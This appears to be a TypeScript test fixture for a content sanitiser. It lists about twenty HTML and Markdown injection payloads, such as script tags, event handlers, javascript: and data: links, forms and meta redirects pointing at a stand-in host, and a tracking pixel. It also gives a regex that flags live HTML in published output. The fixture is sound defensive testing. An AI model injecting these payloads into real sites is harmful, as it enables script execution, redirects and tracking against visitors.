/** Injection payloads an editor could write into a body, and the signs of one that got through. */
export const HTML_PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](jav&#x09;ascript:alert(1))',
  '<javascript:alert(1)>',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<form action="https://evil.example/"><input name=q></form>',
  '<base href="https://evil.example/">',
  '<style>body{display:none}</style>',
  '<object data="https://evil.example/x"></object>',
  '<embed src="https://evil.example/x">',
  '<meta http-equiv="refresh" content="2;url=https://evil.example/">',
  '<div style="position:fixed;inset:0">x</div>',
  '<p onclick="alert(1)">x</p>',
  '![x](https://evil.example/pixel.png)',
  '<details open ontoggle=alert(1)>x</details>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
];

/** Anything in published HTML that would run, navigate, load or restyle because of content. */
export const LIVE_HTML =
  /<(script|iframe|object|embed|form|base|meta|style|svg|math|details)\b|\son\w+=|\sstyle=|href="\s*(javascript|data|vbscript):|src="https?:\/\/evil/i;
